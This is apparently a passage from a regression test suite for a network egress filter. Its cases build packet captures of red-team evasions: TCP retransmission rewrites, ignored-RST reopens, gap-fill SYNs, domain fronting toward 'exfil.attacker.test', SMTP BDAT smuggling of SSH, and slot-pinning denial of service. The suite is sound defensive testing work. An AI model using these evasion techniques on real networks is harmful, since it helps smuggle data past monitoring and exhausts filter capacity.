# The header log (hlog.h, docs/stream.md "The header log"): a copy of bytes we
# read, sent again with other bytes where we read a record header, is refused
# whatever became of the first copy (a loss after us included).

@case
def case_after_loss_rewrite(n):
    """No trick but a loss after us: a record header passes us and is lost
    on the way on (or the receiver drops it); the same sequence number then
    carries plaintext, which to us is a retransmission."""
    cap = Capture()
    t = tls_established(cap, S1, 44200, E2M, 900, n)
    base = t.cseq
    http = http_leak(n)
    t.raw(True, "PA", tls_appdata(n + "decoy", len(http) - 5), seq=base)
    t.raw(True, "PA", http, seq=base, gap=200000)
    t.cseq = base + len(http)
    t.raw(False, "A")
    t.data(False, tls_appdata(n + "more", 120))
    t.close()
    return cap, {"leak": [leak(n)]}


@case
def case_after_pmtu_decoy(n):
    """A link after us with a smaller MTU (1492: PPPoE) drops the client's
    1500-byte DF decoy after we read it; the router's ICMP fragmentation
    needed comes back; the client sends plaintext at the same sequence number
    in two smaller segments: to us retransmissions (red team round 9, F4)."""
    cap = Capture()
    t = tls_established(cap, S1, 44201, E2M, 901, n)
    base = t.cseq
    decoy = tls_appdata(n + "decoy", 1460 - 5)
    http = http_leak(n, 1460)
    t.raw(True, "PA", decoy, seq=base, ipkw={"flags": "DF"})
    quote = IP(src=S1, dst=E2M, flags="DF", len=1500) / TCP(sport=44201, dport=443, seq=base, ack=t.sseq, flags="PA")
    cap.emit(l2("192.0.2.1", S1) / IP(src="192.0.2.1", dst=S1) / ICMP(type=3, code=4, nexthopmtu=1492)
             / Raw(bytes(quote)[:28]), 1000)
    t.raw(True, "PA", http[:730], seq=base, ipkw={"flags": "DF"})
    t.raw(True, "PA", http[730:], seq=base + 730, ipkw={"flags": "DF"})
    t.cseq = base + len(http)
    t.raw(False, "A")
    t.data(False, tls_appdata(n + "more", 120))
    t.close()
    return cap, {"leak": [leak(n)]}


def hold_dup(n, cport, isn, framed_first):
    """A gap inside a record's body; two held copies of the range after it,
    one with the next record's header, one with plaintext there; then the
    gap is filled. The first copy is read, the second goes out after it as
    a retransmission: a receiver that lost the first after us reads it."""
    cap = Capture()
    t = tls_established(cap, S1, cport, E2M, isn, n)
    rec1 = tls_appdata(n + "c1", 300 - 5)
    http = http_leak(n)
    rec2 = tls_appdata(n + "c2", len(http) - 5)
    base = t.cseq
    copies = [rec1[200:] + rec2, rec1[200:] + http]
    if not framed_first:
        copies.reverse()
    t.raw(True, "PA", rec1[:100], seq=base)
    for c in copies:
        t.raw(True, "PA", c, seq=base + 200)
    t.raw(True, "PA", rec1[100:200], seq=base + 100)
    t.cseq = base + 300 + len(http)
    t.raw(False, "A")
    t.data(False, tls_appdata(n + "more", 120))
    t.close()
    return cap, {"leak": [leak(n)]}


@case
def case_hold_dup_diff(n):
    return hold_dup(n, 44202, 902, True)


@case
def case_hold_dup_diff_rev(n):
    return hold_dup(n, 44203, 903, False)


@case
def case_after_hole_rewrite_acked_ok(n):
    """Must allow: a record's header segment is lost after us and sent again
    byte for byte long after later records were read and acknowledged up to
    the hole (the log keeps what the receiver has not acknowledged)."""
    cap = Capture()
    t = tls_established(cap, S1, 44204, E2M, 904, n)
    recs = [tls_appdata(n + "r%d" % i, 400) for i in range(6)]
    recs[3] = marked_record(passm(n), n + "r3", 400)
    data = b"".join(recs)
    base = t.cseq
    for o in range(0, len(data), 405):
        t.raw(True, "PA", data[o:o + 405], seq=base + o)
        t.raw(False, "A", ack=base + min(o + 405, 810))
    t.raw(True, "PA", data[810:1215], seq=base + 810, gap=300000)
    t.raw(False, "A", ack=base + len(data))
    t.cseq = base + len(data)
    t.data(False, tls_appdata(n + "more", 120))
    t.close()
    return cap, {"pass": [passm(n)]}


@case
def case_after_corrupt_header_ok(n):
    """Must allow: a segment with a record header arrives corrupted (its sum
    wrong, its header no TLS header): the receiver drops it, so do we (its
    sum is checked once what we read breaks the framing), and the good copy
    follows."""
    cap = Capture()
    t = tls_established(cap, S1, 44205, E2M, 905, n)
    rec = marked_record(passm(n), n + "c", 300)
    base = t.cseq
    bad = b"\x99\x99" + rec[2:]
    t.raw(True, "PA", bad, seq=base, tcpkw={"chksum": 0x1234})
    t.raw(True, "PA", rec, seq=base, gap=200000)
    t.cseq = base + len(rec)
    t.raw(False, "A")
    t.data(False, tls_appdata(n + "more", 120))
    t.close()
    return cap, {"pass": [passm(n)]}


@case
def case_small_records_ok(n):
    """Must allow: 300 application-data records of 1 to 40 bytes, several to
    a segment, the server acknowledging every tenth segment: more records
    than a header log holds are read over the flow's life."""
    cap = Capture()
    t = tls_established(cap, S1, 44206, E2M, 906, n)
    recs = [tls_appdata(n + "s%d" % i, 1 + (i * 7) % 40) for i in range(300)]
    recs[250] = marked_record(passm(n), n + "s250", 40)
    i = 0
    seg = 0
    while i < len(recs):
        k = 1 + seg % 4
        t.data(True, b"".join(recs[i:i + k]), gap=1000)
        i += k
        seg += 1
        if seg % 10 == 0:
            t.raw(False, "A")
    t.raw(False, "A")
    t.data(False, tls_appdata(n + "more", 120))
    t.close()
    return cap, {"pass": [passm(n)]}


# Red team round 11 (helper, against 2998014): a close that only we counted
# (a RST or FIN the server discards, or one we dropped ourselves), or an idle
# flow we forgot, then a SYN: the server still holds the old connection (it
# answers the SYN with a challenge ACK), and the old connection's bytes lay
# before the new flow's first byte, forwarded unread as retransmissions.

def rst_ignored_reopen(n, cport, send_rst, v6=False, isn_step=100000, server_rst_after=False):
    """An allowed e2m session; the client sends a RST at its exact next byte
    that the server discards (send_rst); aduana takes it as the close. Then a
    SYN on the same ports (a new flow to aduana; the server, still holding
    the connection, answers with a challenge ACK), then plaintext HTTP at
    the old connection's next byte, which to aduana's new flow lies before
    its first byte: a retransmission, forwarded unread."""
    cap = Capture()
    c, s = (S6, E2M6) if v6 else (S1, E2M)
    t = tls_established(cap, c, cport, s, cport - 40000, n)
    old_next, srv_next = t.cseq, t.sseq
    send_rst(t, old_next)
    opts = [("MSS", 1460), ("SAckOK", b""), ("WScale", 7)]
    new_isn = (old_next + isn_step) & 0xFFFFFFFF
    t.raw(True, "S", seq=new_isn, options=opts, gap=50000)
    # the server: established, answers the SYN with a challenge ACK (RFC 5961 4.2)
    t.raw(False, "A", seq=srv_next, ack=old_next)
    http = http_leak(n)
    t.raw(True, "PA", http, seq=old_next, ack=srv_next)
    t.cseq = old_next + len(http)
    t.raw(False, "A", seq=srv_next, ack=t.cseq)
    t.raw(False, "PA", b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n", seq=srv_next, ack=t.cseq)
    return cap, {"leak": [leak(n)]}


@case
def case_rst_md5_reopen(n):
    """The RST carries a TCP-MD5 option: a server without the key drops it (tcp_inbound_hash)."""
    return rst_ignored_reopen(n, 45101, lambda t, s: t.raw(True, "R", seq=s, options=[(19, prand(n, 16))]))


@case
def case_rst_ao_reopen(n):
    """The RST carries a TCP-AO option (kind 29)."""
    return rst_ignored_reopen(n, 45102, lambda t, s: t.raw(True, "R", seq=s, options=[(29, b"\x01\x01" + prand(n, 12))]))


@case
def case_rst_l2other_reopen(n):
    """The RST in a frame to another unicast MAC (the next hop leaves it on the wire)."""
    def send(t, s):
        pkt = l2(t.c, t.s) / IP(src=t.c, dst=t.s) / TCP(sport=t.cport, dport=t.sport, flags="R", seq=s, window=0)
        pkt[Ether].dst = "02:00:00:00:00:99"
        t.cap.emit(pkt, 10000)
    return rst_ignored_reopen(n, 45103, send)


@case
def case_rst_lsrr_reopen(n):
    """The RST with an IPv4 loose source route option (hosts drop it)."""
    def send(t, s):
        seg = TCP(sport=t.cport, dport=443, flags="R", seq=s, ack=0, window=0)
        ck = IP(bytes(IP(src=S1, dst=E2M) / seg))[TCP].chksum
        t.raw(True, "R", seq=s, ipkw={"options": [IPOption_LSRR(routers=["192.0.2.1"])]}, tcpkw={"chksum": ck}, window=0)
    return rst_ignored_reopen(n, 45104, send)


@case
def case_rst_dstopt6_reopen(n):
    """IPv6: the RST with a destination option of an unknown type that says discard."""
    def send(t, s):
        pkt = IPv6(src=S6, dst=E2M6) / IPv6ExtHdrDestOpt(options=[HBHOptUnknown(otype=0x9E, optdata=b"\x00" * 4)]) \
            / TCP(sport=t.cport, dport=443, flags="R", seq=s, window=0)
        t.cap.emit(l2(S6, E2M6, ()) / pkt, 10000)
    return rst_ignored_reopen(n, 45105, send, v6=True)


@case
def case_rst_bcast_reopen(n):
    """The RST in a broadcast frame."""
    def send(t, s):
        pkt = l2(t.c, t.s) / IP(src=t.c, dst=t.s) / TCP(sport=t.cport, dport=t.sport, flags="R", seq=s, window=0)
        pkt[Ether].dst = "ff:ff:ff:ff:ff:ff"
        t.cap.emit(pkt, 10000)
    return rst_ignored_reopen(n, 45106, send)

@case
def case_finnoack_rst_reopen(n):
    """A FIN without the ACK flag (an established Linux socket discards it: TCP_FLAGS),
    then a plain RST one past it (aduana: 'exactly past a side's FIN'; the server, whose
    rcv_nxt is still the FIN's own number, answers it with a challenge ACK). aduana takes
    the flow as closed; a SYN opens a new flow there and the plaintext at the old next
    byte passes as a retransmission of it."""
    def send(t, s):
        t.raw(True, "F", seq=s)
        t.raw(False, "A", seq=t.sseq, ack=s)          # no change at the server
        t.raw(True, "R", seq=s + 1)
        t.raw(False, "A", seq=t.sseq, ack=s)          # challenge ACK
    return rst_ignored_reopen(n, 45107, send)


@case
def case_finmd5_rst_reopen(n):
    """The same with a FIN-ACK carrying a TCP-MD5 option (dropped by tcp_inbound_hash)."""
    def send(t, s):
        t.raw(True, "FA", seq=s, options=[(19, prand(n, 16))])
        t.raw(True, "R", seq=s + 1)
        t.raw(False, "A", seq=t.sseq, ack=s)
    return rst_ignored_reopen(n, 45108, send)


@case
def case_dropped_rst_reopen(n):
    """The flow is dropped first (a record with a TTL one lower: exception:ambiguous), so
    aduana drops every later packet of it, the RST too, which never reaches the server;
    yet the dropped RST still marks the flow closed, and a SYN reopens it as a new flow."""
    def send(t, s):
        t.raw(True, "PA", tls_appdata(n + "lowttl", 60), seq=s, ipkw={"ttl": 1})   # aduana: ambiguous -> drop
        t.raw(True, "R", seq=s)                      # dropped by aduana, counted as the close
    return rst_ignored_reopen(n, 45109, send)


@case
def case_dropped_fin_reopen(n):
    """The same where the server closes too: a FIN from each side after the drop (the
    client's dropped by aduana, so the server never gets it; the server's a half-close),
    then the SYN."""
    def send(t, s):
        t.raw(True, "PA", tls_appdata(n + "lowttl", 60), seq=s, ipkw={"ttl": 1})
        t.raw(True, "FA", seq=s)
        t.raw(False, "FA", seq=t.sseq, ack=s)
        t.sseq += 1
    return rst_ignored_reopen(n, 45110, send)


@case
def case_front_reopen_session(n):
    """Domain fronting through the shared front, past the SNI check: a ClientHello for
    exfil.attacker.test to the front is read and dropped (default:e2m-strict); aduana drops
    the client's exact RST too (the server never sees it) but takes it as the close; a SYN
    with an ISN 2^30 ahead opens a new, pending flow; the same ClientHello again at the old
    connection's first byte, and 40 application-data records over 20 s, all before the new
    flow's first byte: forwarded unread. The CDN serves exfil.attacker.test."""
    cap = Capture()
    t = ETcp(cap, S1, 45120, FRONT, 443, isn=5120, rtt_us=20000)
    t.handshake()
    first = t.cseq
    ch = hello(n, sni=EVIL, sid=sid32(leak(n)))
    t.raw(True, "PA", ch)                 # read: exfil name, dropped
    t.raw(True, "R", seq=first + len(ch))  # dropped, counted as the close
    srv = t.sseq
    opts = [("MSS", 1460), ("SAckOK", b""), ("WScale", 7)]
    t.raw(True, "S", seq=(first + 0x40000000) & 0xFFFFFFFF, options=opts, gap=100000)
    t.raw(False, "A", seq=srv, ack=first)  # challenge ACK: the server still holds it
    t.cseq = first
    t.raw(True, "PA", ch, seq=first, ack=srv)
    t.cseq += len(ch)
    t.data(False, server_hello_flight(n))
    t.data(True, CCS + tls_appdata(n + "fin", 53))
    for i in range(40):
        t.data(True, marked_record(leak(n), n + "r%d" % i, 300), gap=500000)
        t.data(False, tls_appdata(n + "s%d" % i, 100))
    return cap, {"leak": [leak(n)]}


def idle_reopen(n, cport, idle_s, syn=True, isn_step=100000):
    cap = Capture()
    t = tls_established(cap, S1, cport, E2M, cport - 40000, n)
    old_next, srv_next = t.cseq, t.sseq
    cap.idle(idle_s)
    if syn:
        opts = [("MSS", 1460), ("SAckOK", b""), ("WScale", 7)]
        t.raw(True, "S", seq=(old_next + isn_step) & 0xFFFFFFFF, options=opts)
        t.raw(False, "A", seq=srv_next, ack=old_next)   # challenge ACK
    http = http_leak(n)
    t.raw(True, "PA", http, seq=old_next, ack=srv_next)
    t.cseq = old_next + len(http)
    t.raw(False, "A", seq=srv_next, ack=t.cseq)
    return cap, {"leak": [leak(n)]}


@case
def case_idle_reopen(n):
    """An allowed session idle for 3601 s (aduana's tcp timeout is 3600; Linux keeps an
    idle established connection forever), then a SYN with another ISN on the same ports
    (a new flow to aduana; a challenge ACK from the server), then plaintext at the old
    connection's next byte: before the new flow's first byte, a 'retransmission'."""
    return idle_reopen(n, 45301, 3601)


@case
def case_idle_nosyn(n):
    """Control: the same idle, then the plaintext without a SYN (midstream)."""
    return idle_reopen(n, 45302, 3601, syn=False)


@case
def case_smtp_bdat_unannounced(n):
    """The relay's EHLO reply has no CHUNKING (Postfix with it discarded, Sendmail): BDAT 400
    with an SSH banner and packet as its 'chunk'. Sendmail reads the chunk as command lines."""
    cap = Capture()
    t = ETcp(cap, S1, 45210, MAIL, 25, isn=5210, rtt_us=4000)
    t.handshake()
    smtp_start(t, False)
    t.data(True, b"MAIL FROM:<a@e2m.customs.example>\r\n")
    t.data(False, b"250 2.1.0 Ok\r\n")
    t.data(True, b"RCPT TO:<b@customs.example>\r\n")
    t.data(False, b"250 2.1.5 Ok\r\n")
    chunk = SSH_BANNER + ssh_binary(n, leak(n))
    t.data(True, b"BDAT %d LAST\r\n" % len(chunk) + chunk)
    t.data(False, b"500 5.5.1 Command unrecognized: \"BDAT\"\r\n")
    t.close()
    return cap, {"leak": [leak(n)]}


# Red team round 12 (helper, against 8bf75d0): the header log taken late or
# never (a closed window keeps a flow off the common path; records read
# before it), stolen for good, filled by one segment; a FIN behind our next
# byte counted as the close, then a "new" connection whose first bytes fill
# up to the old next byte (the server drops them as old) so that the bytes
# after them, read by the server as the old connection's, are a record body
# to us; server bytes on a reopened flow that never saw a SYN-ACK.

SYN_OPTS = [("MSS", 1460), ("SAckOK", b""), ("WScale", 7)]


def after_rewrite(t, n, window=64240, server_more=True):
    """after_loss_rewrite's tail: a record header segment (lost after us), then plaintext at
    its sequence number (to us a retransmission), the server's ACK, more, close."""
    base = t.cseq
    http = http_leak(n)
    t.raw(True, "PA", tls_appdata(n + "decoy", len(http) - 5), seq=base, window=window,
          ipkw={"flags": "DF"})
    t.raw(True, "PA", http, seq=base, gap=200000, window=window, ipkw={"flags": "DF"})
    t.cseq = base + len(http)
    t.raw(False, "A")
    if server_more:
        t.data(False, tls_appdata(n + "more", 120))
    t.close()


# ------------------------------------------------ F1: the header log never taken (client's window 0)
@case
def case_hlog_zerowin_rewrite(n):
    """Every segment of the client after the server's flight advertises a receive window of 0
    (its own window: the server's stack does not care for the data it receives). ZERO_INIT keeps
    every segment of the flow off the fast path, the only place judge_hlog_take is called: the
    flow never has a header log. Then after_loss_rewrite: the header segment is lost after us,
    plaintext at its sequence number passes as a retransmission."""
    cap = Capture()
    t = ETcp(cap, S1, 46001, E2M, 443, isn=6001, rtt_us=20000)
    t.handshake()
    t.data(True, hello(n))
    t.send(False, server_hello_flight(n))
    t.raw(True, "A", window=0)
    for rec in (CCS + tls_appdata(n + "fin", 53), tls_appdata(n + "req", 180)):
        t.raw(True, "PA", rec, window=0)
        t.cseq += len(rec)
        t.raw(False, "A")
    after_rewrite(t, n, window=0, server_more=False)   # (no server data into the closed window)
    return cap, {"leak": [leak(n)]}


@case
def case_hlog_zerowin_rewrite_ctl(n):
    """Control: the same with the client's window open (= after_loss_rewrite): refused."""
    cap = Capture()
    t = ETcp(cap, S1, 46002, E2M, 443, isn=6002, rtt_us=20000)
    t.handshake()
    t.data(True, hello(n))
    t.send(False, server_hello_flight(n))
    t.raw(True, "A")
    for rec in (CCS + tls_appdata(n + "fin", 53), tls_appdata(n + "req", 180)):
        t.raw(True, "PA", rec)
        t.cseq += len(rec)
        t.raw(False, "A")
    after_rewrite(t, n)
    return cap, {"leak": [leak(n)]}


# ------------------------------------------------ F2: headers read before the log is taken
@case
def case_hlog_early_rewrite(n):
    """TLS 1.3 0-RTT shape: the ClientHello, then at once an application-data record (read on
    the long path, before any log exists: not logged). That segment is lost after us (DF, a
    smaller MTU on); the server's flight acknowledges the hello only (the first-bytes slot
    closes there); the client sends plaintext at the record's sequence number: a
    retransmission to us, compared with nothing; the server reads it in order."""
    cap = Capture()
    t = ETcp(cap, S1, 46003, E2M, 443, isn=6003, rtt_us=20000)
    t.handshake()
    t.send(True, hello(n))
    base = t.cseq
    http = http_leak(n)
    t.raw(True, "PA", tls_appdata(n + "early", len(http) - 5), seq=base, ipkw={"flags": "DF"})
    t.send(False, server_hello_flight(n))        # acknowledges the hello only (ack = base)
    t.raw(True, "PA", http, seq=base, gap=200000)
    t.cseq = base + len(http)
    t.raw(False, "A")
    t.data(True, CCS + tls_appdata(n + "fin", 53))
    t.data(False, tls_appdata(n + "more", 120))
    t.close()
    return cap, {"leak": [leak(n)]}


# ------------------------------------------------ F3: an idle log stolen, never replaced
@case
def case_hlog_steal_rewrite(n, others=1030):
    """Flow V takes a header log (slot 0 of the worker's pool) and goes idle (everything
    acknowledged both ways). 1030 short TLS sessions from the same host follow (each takes a
    log at its first fast-path header segment; the pool's cursor walks the 1024 slots in turn
    and takes V's idle log at the wrap). V is left with hlog = UINT32_MAX for good: its later
    headers are never logged, and after_loss_rewrite on V passes."""
    cap = Capture()
    v = tls_established(cap, S1, 46004, E2M, 6004, n)
    for i in range(others):
        t = ETcp(cap, S1, 20000 + i, E2M, 443, isn=100000 + 977 * i, rtt_us=2000)
        t.handshake(gap=300)
        t.data(True, hello(n + "h"))
        t.data(False, server_hello_flight(n + "h"))
        t.data(True, CCS + tls_appdata(n + "f%d" % i, 53))
        t.raw(True, "RA")
    after_rewrite(v, n)
    return cap, {"leak": [leak(n)]}


@case
def case_hlog_steal_rewrite_ctl(n):
    """Control: the same with 900 other sessions (no wrap): refused."""
    return case_hlog_steal_rewrite(n, others=900)


# ------------------------------------------------ F4: a FIN behind our next byte closes the flow for us
def fin_old_close(t, n, back=100):
    """A bare FIN|ACK at old_next - back (the server: a duplicate, tcp_data_queue drops it and
    the FIN with it), then a RST one past it (the server: not rcv_nxt, a challenge ACK; RFC
    5961 3.2). aduana counted the FIN at old_next - back and the RST as exact past it."""
    old_next, srv = t.cseq, t.sseq
    t.raw(True, "FA", seq=old_next - back, ack=srv)
    t.raw(False, "A", seq=srv, ack=old_next)          # dup ACK (D-SACK)
    t.raw(True, "R", seq=old_next - back + 1)
    t.raw(False, "A", seq=srv, ack=old_next)          # challenge ACK


def gap_fill_reopen(t, n, old_next, srv, tail, sni=None):
    """A SYN whose stream reaches old_next exactly where a record header ends: an e2m
    ClientHello (or one for sni) and the 5-byte header of an application-data record as
    long as `tail`. The server (still established) answers the SYN with a challenge ACK and
    drops every byte below its rcv_nxt as old; from old_next on it reads `tail` as the old
    connection's next bytes. aduana reads `tail` as that record's body."""
    fake = hello(n + "fill") if sni is None else hello(n + "fill", sni=sni)
    prefix = fake + b"\x17\x03\x03" + struct.pack("!H", len(tail))
    isn = (old_next - 1 - len(prefix)) & 0xFFFFFFFF
    t.raw(True, "S", seq=isn, options=SYN_OPTS, gap=50000)
    t.raw(False, "A", seq=srv, ack=old_next)          # challenge ACK (RFC 5961 4.2)
    t.raw(True, "PA", prefix, seq=(isn + 1) & 0xFFFFFFFF, ack=srv)
    t.raw(False, "A", seq=srv, ack=old_next)          # old data: a duplicate ACK
    t.raw(True, "PA", tail, seq=old_next, ack=srv)
    t.raw(False, "A", seq=srv, ack=(old_next + len(tail)) & 0xFFFFFFFF)


# Tombstones (tomb.h): a connection that ended for us but not for its server (idle past the
# tcp timeout, closed by a RST the server answered with a challenge ACK, dropped and then
# forgotten), reached by a gap-fill SYN once our entry is gone. Red team rounds 12 and 13
# found the first two (idle_fill, rstloss_closed_fill); they were open until tombstones.
@case
def case_idle_fill(n):
    """Inside client alone: an allowed E2M session idle for 3601 s (our entry expires; Linux
    keeps the connection), then gap_fill_reopen: a SYN answered by a challenge ACK, a fake
    e2m hello and a record header ending at the old next byte (the server drops them as
    old), then plaintext HTTP that the server reads as the old connection's next bytes."""
    cap = Capture()
    t = tls_established(cap, S1, 46101, E2M, 6101, n)
    old_next, srv = t.cseq, t.sseq
    cap.idle(3601)
    gap_fill_reopen(t, n, old_next, srv, http_leak(n))
    return cap, {"leak": [leak(n)]}


@case
def case_rstloss_closed_fill(n):
    """Inside client plus a loss after us: a record segment that the server never gets (we
    read it: our next byte moves past it), then a RST exactly at our next byte; the server,
    behind us, answers it with a challenge ACK. Our closed entry expires after tcp_closed
    (10 s); 11 s on, gap_fill_reopen up to the server's next byte (before the lost record)."""
    cap = Capture()
    t = tls_established(cap, S1, 46102, E2M, 6102, n)
    srv_next, srv = t.cseq, t.sseq
    lost = tls_appdata(n + "lost", 200)
    t.raw(True, "PA", lost, seq=srv_next, ack=srv, ipkw={"flags": "DF"})   # lost after us
    t.raw(True, "R", seq=srv_next + len(lost))                            # exact to us
    t.raw(False, "A", seq=srv, ack=srv_next)                              # challenge ACK
    cap.idle(11)
    gap_fill_reopen(t, n, srv_next, srv, http_leak(n))
    return cap, {"leak": [leak(n)]}


@case
def case_dropped_expired_front_fill(n):
    """Domain fronting at the shared front, past the SNI check, once the dropped flow is
    forgotten: a ClientHello for exfil.attacker.test to the front is read and dropped (the
    server got the handshake only, and holds the connection); 11 s on (the dropped timeout
    is 10 s) a SYN answered by a challenge ACK, a portal.customs.example hello and a record
    header that end at the old connection's first byte (the server drops them as old), then
    the exfil ClientHello again: to the server, the old connection's hello; to a new flow, a
    record body. The CDN serves exfil.attacker.test."""
    cap = Capture()
    t = ETcp(cap, S1, 46103, FRONT, 443, isn=6103, rtt_us=20000)
    t.handshake()
    first, srv = t.cseq, t.sseq
    ch = hello(n, sni=EVIL, sid=sid32(leak(n)))
    t.raw(True, "PA", ch, seq=first, ack=srv)            # read: dropped (default:e2m-strict)
    t.raw(True, "PA", ch, seq=first, ack=srv, gap=300000)  # sent again: dropped
    cap.idle(11)
    gap_fill_reopen(t, n, first, srv, ch, sni=FRONT_NAME)
    t.data(False, server_hello_flight(n))
    for i in range(3):
        t.data(True, marked_record(leak(n), n + "r%d" % i, 300))
    return cap, {"leak": [leak(n)]}


@case
def case_idle_reuse_ok(n):
    """Must-allow: an allowed E2M session idle for 3601 s; the server had dropped it (its
    keepalive gave up); the client opens a new connection on the same ports, the server
    answers with a SYN-ACK, and a whole new session runs."""
    cap = Capture()
    t = tls_established(cap, S1, 46105, E2M, 6105, n)
    cap.idle(3601)
    u = ETcp(cap, S1, 46105, E2M, 443, isn=(t.cseq + 7777777) & 0xFFFFFFFF, rtt_us=20000)
    u.handshake()
    u.data(True, hello(n + "2"))
    u.data(False, server_hello_flight(n + "2"))
    u.data(True, CCS + tls_appdata(n + "fin2", 53))
    u.data(True, marked_record(passm(n), n + "req2", 200))
    u.data(False, tls_appdata(n + "resp2", 400))
    u.close()
    return cap, {"pass": [passm(n)]}


@case
def case_rst_reuse_below_ok(n):
    """Must-allow: a session reset by the client (exact RST), then, 11 s on (our closed entry
    gone), a new connection on the same ports with an ISN below the old next byte; the
    server answers with a SYN-ACK; a whole new session."""
    cap = Capture()
    t = tls_established(cap, S1, 46106, E2M, 6106, n)
    t.raw(True, "R", seq=t.cseq)
    cap.idle(11)
    u = ETcp(cap, S1, 46106, E2M, 443, isn=(t.cseq - 5000) & 0xFFFFFFFF, rtt_us=20000)
    u.handshake()
    u.data(True, hello(n + "2"))
    u.data(False, server_hello_flight(n + "2"))
    u.data(True, CCS + tls_appdata(n + "fin2", 53))
    u.data(True, marked_record(passm(n), n + "req2", 200))
    u.data(False, tls_appdata(n + "resp2", 400))
    u.close()
    return cap, {"pass": [passm(n)]}


# Denial of service from inside (red team round 14): the first-bytes slots and header logs
# held by flows whose server never answers or never acknowledges. Fail-closed, but every
# new flow of the worker was refused; a holder kept too long is now refused in its place.
def honest_session(cap, n, cport, isn, host=S1, dst=E2M):
    u = ETcp(cap, host, cport, dst, 443, isn=isn, rtt_us=20000)
    u.handshake()
    u.data(True, hello(n + "honest"))
    u.data(False, server_hello_flight(n + "honest"))
    u.data(True, CCS + tls_appdata(n + "hfin", 53))
    u.data(True, marked_record(passm(n), n + "hreq", 200))
    u.data(False, tls_appdata(n + "hresp", 400))
    u.data(True, tls_appdata(n + "hreq2", 120))
    u.close()


def pin_flows(cap, n, src, count, dst, base_port=30000, rtt_us=150, gap=100, isn0=200000):
    """count flows of src to dst:443, each a handshake and a ClientHello with an expiring TTL
    (hop limit 1): allowed, and its first-bytes slot held (no server answers)."""
    v6 = ":" in src
    for i in range(count):
        t = ETcp(cap, src, base_port + i, dst, 443, isn=isn0 + 7919 * i, rtt_us=rtt_us)
        t.handshake(gap=gap)
        t.raw(True, "PA", hello(n + "pin"), ipkw={"hlim": 1} if v6 else {"ttl": 1})
        t.cseq += len(hello(n + "pin"))


@case
def case_slot_pin_ttl_ok(n, pins=1200):
    """Must-allow: an inside host sends 1200 ClientHellos for e2m with TTL 1 (any socket may
    set it: they expire at the next hop, so no server ever answers), each after a full
    handshake: every one is allowed and keeps its first-bytes slot to compare a later copy
    of its hello with (512 slots a worker). 6 s on, an honest session of another host:
    before, it was refused at its SYN (exception:classifier_alloc); now the stalest holder
    gives its slot up (and is refused)."""
    cap = Capture()
    pin_flows(cap, n, S1, pins, E2M, rtt_us=2000, gap=300)
    cap.idle(6)
    honest_session(cap, n, 46201, 6201)
    return cap, {"pass": [passm(n)]}


@case
def case_slot_pin_fast_ok(n, pins=1300):
    """Must-allow: the same pin, fast: 1300 TTL-1 hellos from one host within about a second
    (none stale yet), then at once an honest session of another host (10.10.1.11). One
    host counts for at most 1/8 of a worker's slots (its flows past that do not count): the
    honest flow, which shows its handshake, takes a slot from one that does not count."""
    cap = Capture()
    pin_flows(cap, n, S1, pins, E2M)
    honest_session(cap, n, 46204, 6204, host="10.10.1.11")
    return cap, {"pass": [passm(n)]}


@case
def case_slot_pin_spoof_ok(n, pins=1300):
    """Must-allow: 1300 flows from forged zone addresses (10.10.2.x to 10.10.7.x) to an address
    of the e2m endpoint that never answers (a SYN-ACK would acknowledge the SYN only, and the
    hello read before it would make the flow ambiguous): a SYN and at once a ClientHello
    for e2m (allowed; each keeps its slot until the responder answers), all within about a
    second; then an honest session. A flow whose bytes never showed the handshake counts for
    no source, so the honest flow takes its slot."""
    cap = Capture()
    for i in range(pins):
        src = "10.10.%d.%d" % (2 + i // 250, 1 + i % 250)
        t = ETcp(cap, src, 30000 + i, E2M, 443, isn=200000 + 7919 * i, rtt_us=150)
        t.raw(True, "S", options=SYN_OPTS, gap=100)
        t.cseq += 1
        t.raw(True, "PA", hello(n + "pin"), ack=0)
        t.cseq += len(hello(n + "pin"))
    honest_session(cap, n, 46205, 6205)
    return cap, {"pass": [passm(n)]}


@case
def case_hlog_pin_noack_ok(n, pins=2100):
    """Must-allow: 2100 allowed sessions whose server answered the hello but never
    acknowledges the client's next record (lost after us, or a server gone quiet): each holds
    a header log with an entry its receiver never acknowledged (1024 logs a worker). 12 s
    on, an honest session: before, each of its record segments found no log and was dropped
    (conform_log_none) until the holders ended an hour later; now the log whose oldest entry
    waited longest (over 10 s) is taken back and its flow refused."""
    cap = Capture()
    for i in range(pins):
        t = ETcp(cap, S1, 20000 + i, E2M, 443, isn=300000 + 7919 * i, rtt_us=2000)
        t.handshake(gap=300)
        t.data(True, hello(n + "pin"))
        t.data(False, server_hello_flight(n + "pin"))
        t.send(True, CCS + tls_appdata(n + "pinfin", 53))
    cap.idle(12)
    honest_session(cap, n, 46202, 6202)
    return cap, {"pass": [passm(n)]}


@case
def case_smtp_first_rewrite(n):
    """Inside client plus a loss after us, at the client's first bytes of a flow allowed at
    the server's greeting: an EHLO line that is lost on the way on (the relay never
    acknowledges it), then another copy at the same sequence number: an SSH banner and
    packet. To a reading that no longer keeps the first bytes, a retransmission."""
    cap = Capture()
    t = ETcp(cap, S1, 46203, MAIL, 25, isn=6203, rtt_us=4000)
    t.handshake()
    t.data(False, b"220 mail.customs.example ESMTP Postfix (Debian/GNU)\r\n")
    base = t.cseq
    ehlo = b"EHLO ws-10.e2m.customs.example\r\n"
    swap = SSH_BANNER[:len(ehlo)]
    t.raw(True, "PA", ehlo, seq=base)
    t.raw(True, "PA", swap + ssh_binary(n, leak(n)), seq=base, gap=300000)
    t.cseq = base + len(swap) + len(ssh_binary(n, leak(n)))
    t.raw(False, "A")
    return cap, {"leak": [leak(n)]}


@case
def case_finold_rst_fill(n):
    """Inside client alone: fin_old_close, then gap_fill_reopen with plaintext HTTP as the
    'body': the server reads it as the old connection's bytes at a record-header position."""
    cap = Capture()
    t = tls_established(cap, S1, 46005, E2M, 6005, n)
    old_next, srv = t.cseq, t.sseq
    fin_old_close(t, n)
    gap_fill_reopen(t, n, old_next, srv, http_leak(n))
    return cap, {"leak": [leak(n)]}


@case
def case_finold_rst_reopen(n):
    """fin_old_close, then the suite's reopen shape (ISN above, plaintext at the old next
    byte): the before-start rule refuses it; shows the close is counted (new flow record)."""
    cap = Capture()
    t = tls_established(cap, S1, 46006, E2M, 6006, n)
    old_next, srv = t.cseq, t.sseq
    fin_old_close(t, n)
    t.raw(True, "S", seq=(old_next + 100000) & 0xFFFFFFFF, options=SYN_OPTS, gap=50000)
    t.raw(False, "A", seq=srv, ack=old_next)
    http = http_leak(n)
